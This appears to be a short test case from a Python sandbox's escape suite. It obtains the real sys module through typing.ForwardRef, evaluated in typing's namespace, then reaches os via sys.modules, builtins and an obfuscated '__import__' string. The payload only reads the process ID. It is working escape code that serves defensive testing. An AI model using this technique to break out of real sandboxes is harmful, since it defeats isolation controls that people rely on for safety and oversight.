# technique: typing.ForwardRef('sys', module='typing') evaluates in typing's own namespace, which holds the real sys module (refused by the allowlist); sys.modules then hands out os
# configs: default, common
# With nothing allowed `import typing` is refused.
import typing
real_sys = typing.ForwardRef('sys', module='typing')._evaluate(None, None, recursive_guard=frozenset())
u = '_' * 2
b = real_sys.modules['builtins']
pid = b.eval(u + 'import' + u + "('os').getpid()", {u + 'builtins' + u: b})
return [{'json': {'escaped': [repr(real_sys), pid]}}]
